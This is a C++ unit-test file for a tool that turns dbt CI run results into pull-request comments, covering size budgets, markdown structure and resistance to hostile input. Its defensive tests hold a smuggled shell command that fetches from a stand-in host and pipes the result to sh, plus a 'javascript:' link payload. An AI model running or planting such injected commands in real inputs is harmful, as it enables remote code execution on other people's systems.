// SPDX-License-Identifier: Apache-2.0
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <random>
#include <sstream>

#include "report/budget.hpp"
#include "report/escape.hpp"
#include "report/markdown.hpp"
#include "report/run_json.hpp"
#include "report/terminal.hpp"
#include "report_hostile.hpp"

namespace offshoot::report {
namespace {

using namespace report::tests;

std::vector<std::string> lines(const std::string& all) {
  std::vector<std::string> out;
  std::istringstream in(all);
  for (std::string line; std::getline(in, line);) out.push_back(line);
  return out;
}

/// The comment with the zero-width spaces that the renderer puts in itself shown as clean() shows them.
std::string with_ours_shown(std::string comment) {
  const std::string ours = "\u200B";
  for (std::size_t at = comment.find(ours); at != std::string::npos; at = comment.find(ours, at)) {
    comment.replace(at, ours.size(), "\\u{200b}");
  }
  return comment;
}

/// Why a reader of markdown would stumble over the comment; empty where it would not.
std::string what_is_wrong(const std::string& comment, std::size_t limit) {
  if (comment.size() > limit) return "too long";
  if (const std::string shown = with_ours_shown(comment); clean(shown) != shown) return "not clean";
  std::string fence;
  int depth = 0;
  for (const std::string& line : lines(comment)) {
    const std::size_t ticks = std::min(line.find_first_not_of('`'), line.size());
    if (!fence.empty()) {
      if (line == fence) fence.clear();
    } else if (ticks >= 3 && line.find('`', ticks) == std::string::npos) {
      fence = line.substr(0, ticks);
    } else if (line == "<details>") {
      ++depth;
    } else if (line == "</details>") {
      if (--depth < 0) return "a fold ends that never began";
    } else if (line.starts_with("/") || line.starts_with("atlantis")) {
      return "a command of another bot: " + line;
    }
  }
  if (!fence.empty()) return "a fence is open";
  if (depth != 0) return "a fold is open";
  if (comment.find("<!--") != comment.rfind("<!--")) return "two hidden lines";
  return lines(comment).back().starts_with("<!-- offshoot:v1 run=") ? "" : "the last line is not the hidden one";
}

/// 500 changed models in a chain of tens, of which 300 tests fail.
offshoot::Run large() {
  offshoot::Run run = *from_json(read(golden_folder / "failing-test/run.json"), "run.json");
  Plan plan = *run.plan.finished();
  plan.nodes.clear();
  Build build;
  run.change.finished()->files.push_back({.path = "models/fct_1000.sql"});
  for (int i = 0; i < 500; ++i) {
    const std::string name = "fct_" + std::to_string(1000 + i);
    const std::string id = "model.shop." + name;
    const std::string parent = i % 10 == 0 ? "source.shop.raw.orders" : "model.shop.fct_" + std::to_string(999 + i);
    plan.nodes.push_back({.unique_id = id,
                          .resource_type = "model",
                          .name = name,
                          .file = "models/" + name + ".sql",
                          .materialized = "table",
                          .reasons = {{.kind = ReasonKind::body}},
                          .depends_on = {parent}});
    build.results.push_back({.unique_id = id, .status = NodeStatus::success, .message = "OK", .seconds = 0.1});
    const std::string test = "test.shop.unique_" + name + ".abc";
    const bool fails = i < 300;
    plan.nodes.push_back({.unique_id = test,
                          .resource_type = "test",
                          .name = "unique_" + name,
                          .file = "models/models.yml",
                          .reasons = {{.kind = ReasonKind::test_of, .path = {id}}},
                          .depends_on = {id}});
    build.results.push_back(
        {.unique_id = test,
         .status = fails ? NodeStatus::fail : NodeStatus::pass,
         .message = fails ? "Got 3 results, configured to fail if != 0" : "",
         .seconds = 0.1,
         .failures = fails ? 3 : 0,
         .query = fails ? "select id\nfrom \"ci\".\"" + name + "\"\ngroup by id\nhaving count(*) > 1" : ""});
  }
  std::sort(plan.nodes.begin(), plan.nodes.end(),
            [](const auto& a, const auto& b) { return a.unique_id < b.unique_id; });
  run.plan = std::move(plan);
  run.build = std::move(build);
  return run;
}

TEST(Comment, I7_AHugeRunStaysWithinTheLimitAndSaysWhatIsLeftOut) {
  const offshoot::Run run = large();
  const std::string comment = comment_markdown(run);
  EXPECT_EQ(what_is_wrong(comment, 65535), "");
  EXPECT_GT(comment.size(), 50000U);
  EXPECT_NE(comment.find("## ❌ 300 tests failed"), std::string::npos);
  EXPECT_NE(comment.find(" more nodes in the full report."), std::string::npos);
  EXPECT_NE(comment.find("and 476 more"), std::string::npos);
  if (std::getenv("UPDATE_GOLDEN") != nullptr)
    std::ofstream(golden_folder / "large.md", std::ios::binary) << without_digest(comment);
  EXPECT_EQ(read(golden_folder / "large.md"), without_digest(comment));
}

TEST(Comment, I7_EveryLimitIsKept) {
  const offshoot::Run run = large();
  for (std::size_t limit = 4000; limit <= 70000; limit += 5777) {
    const std::string comment = comment_markdown(run, {.limit = limit});
    EXPECT_EQ(what_is_wrong(comment, limit), "") << limit;
    EXPECT_EQ(comment.rfind("## ❌ 300 tests failed", 0), 0U);
  }
  EXPECT_EQ(comment_markdown(run, {.limit = 1}), comment_markdown(run, {.limit = 4000}));
}

TEST(Comment, I9_HostileTextBreaksNothing) {
  const std::vector<json> runs = golden_runs();
  Hostile hostile(20261121);
  for (std::size_t round = 0; round < 120; ++round) {
    json changed = runs[round % runs.size()];
    hostile.into(changed);
    const auto run = from_json(changed.dump(), "run.json");
    ASSERT_TRUE(run) << run.error().why;
    const std::size_t limit = round % 3 == 0 ? 4000 : 65000;
    EXPECT_EQ(what_is_wrong(comment_markdown(*run, {.limit = limit}), limit), "") << round << "\n" << changed.dump(1);
  }
}

TEST(Comment, I9_NoLinkLeadsOutOfTheRepository) {
  const std::vector<json> runs = golden_runs();
  Hostile hostile(7);
  for (std::size_t round = 0; round < 100; ++round) {
    json changed = runs[round % runs.size()];
    const json origin = changed["origin"];
    hostile.into(changed);
    changed["origin"] = origin;
    const std::string comment = comment_markdown(*from_json(changed.dump(), "run.json"));
    bool fenced_off = false;
    for (const std::string& line : lines(comment)) {
      if (line.starts_with("```")) fenced_off = !fenced_off;
      if (fenced_off) continue;
      for (std::size_t at = line.find("`]("); at != std::string::npos; at = line.find("`](", at + 1)) {
        EXPECT_EQ(line.compare(at + 3, 28, "https://github.com/acme/shop"), 0) << line;
      }
    }
  }
}

TEST(Comment, B4_NoLineOnATerminalIsAWorkflowCommand) {
  const std::vector<json> runs = golden_runs();
  Hostile hostile(42);
  for (std::size_t round = 0; round < 120; ++round) {
    json changed = runs[round % runs.size()];
    hostile.into(changed);
    const auto run = from_json(changed.dump(), "run.json");
    ASSERT_TRUE(run);
    std::string shown = terminal_summary(*run, false);
    if (const Plan* plan = run->plan.finished()) shown += plan_terminal(*plan, false);
    EXPECT_EQ(shown.find("##["), std::string::npos);
    EXPECT_EQ(shown.find_first_of("\x1B\r\t\x7F"), std::string::npos);
    for (const std::string& line : lines(shown)) {
      const std::size_t begin = std::min(line.find_first_not_of(' '), line.size());
      EXPECT_NE(line.compare(begin, 2, "::"), 0) << line;
    }
  }
}

TEST(Comment, I6_TheHiddenLineHoldsNothingButWhatItShould) {
  const CommentMark mark{.run = "20261121T034501Z-1a2b3c4-1 --> <b>",
                         .head = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d",
                         .digest = "0123456789abcdef -->"};
  EXPECT_EQ(hidden_line(mark, "offshoot:v1"),
            "<!-- offshoot:v1 run=20261121T034501Z-1a2b3c4-1--b head=1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d "
            "digest=0123456789abcdef -->");
  EXPECT_EQ(hidden_line({}, "offshoot:v1:shop"), "<!-- offshoot:v1:shop run= head= digest= -->");
}

TEST(Comment, TheFullReportIsLinkedWhereThereIsOne) {
  const offshoot::Run run{};
  EXPECT_NE(
      comment_markdown(run, {.report_url = "https://s3.test/r.html"}).find("[full report](https://s3.test/r.html)"),
      std::string::npos);
  EXPECT_EQ(comment_markdown(run, {.report_url = "javascript:alert(1)"}).find("javascript"), std::string::npos);
}

TEST(Comment, ANameThatIsNotSafeInAShellIsNotOfferedForPasting) {
  offshoot::Run run = *from_json(read(golden_folder / "all-passed/run.json"), "run.json");
  EXPECT_NE(comment_markdown(run).find("dbt build --select fct_refunds+ stg_refunds+"), std::string::npos);
  for (PlannedNode& node : run.plan.finished()->nodes) {
    if (node.name == "stg_refunds") node.unique_id = "model.shop.x; curl evil.test | sh";
  }
  EXPECT_EQ(comment_markdown(run).find("dbt build"), std::string::npos);
}

std::string entries_of(std::size_t shown, std::size_t left) {
  std::string out;
  for (std::size_t i = 0; i < shown; ++i) out += "- entry\n";
  return left == 0 ? out
                   : out + "\nand " + std::to_string(left) + (left == 1 ? " more thing" : " more things") +
                         " in the full report.\n";
}

Section section(int importance, double share, std::size_t entries) {
  return {.importance = importance,
          .share = share,
          .open = "<\n",
          .entries = std::vector<std::string>(entries, "- entry\n"),
          .close = ">\n",
          .one = "thing",
          .many = "things"};
}

TEST(Budget, I7_ASectionThatFitsIsWhole) {
  EXPECT_EQ(fit({section(0, 0.1, 3)}, 1000), "<\n" + entries_of(3, 0) + ">\n");
}

TEST(Budget, I7_OneThatDoesNotSaysHowManyMore) {
  EXPECT_EQ(fit({section(0, 0.5, 30)}, 100), "<\n" + entries_of(7, 23) + ">\n");
  EXPECT_EQ(fit({section(0, 0.5, 30)}, 50), "<\n\n30 things: see the full report.\n>\n");
}

TEST(Budget, I7_TheLeastImportantGoFirst) {
  EXPECT_EQ(fit({section(5, 0.5, 9), section(0, 0.5, 9)}, 50), "<\n\n9 things: see the full report.\n>\n");
  EXPECT_EQ(fit({section(0, 0.5, 9)}, 3), "");
  EXPECT_EQ(fit({}, 100), "");
}

TEST(Budget, I7_WhatIsIndivisibleIsWholeOrAbsent) {
  Section whole = section(0, 0.1, 20);
  whole.one.clear();
  EXPECT_EQ(fit({whole}, 100), "");
  EXPECT_EQ(fit({whole}, 1000), "<\n" + entries_of(20, 0) + ">\n");
}

TEST(Budget, I7_RoomThatOthersDoNotWantGoesToTheMostImportant) {
  const std::string shown = fit({section(1, 0.2, 2), section(0, 0.2, 100)}, 500);
  EXPECT_TRUE(shown.starts_with("<\n" + entries_of(2, 0) + ">\n"));
  EXPECT_GT(shown.size(), 480U);
  EXPECT_LE(shown.size(), 500U);
}

}  // namespace
}  // namespace offshoot::report
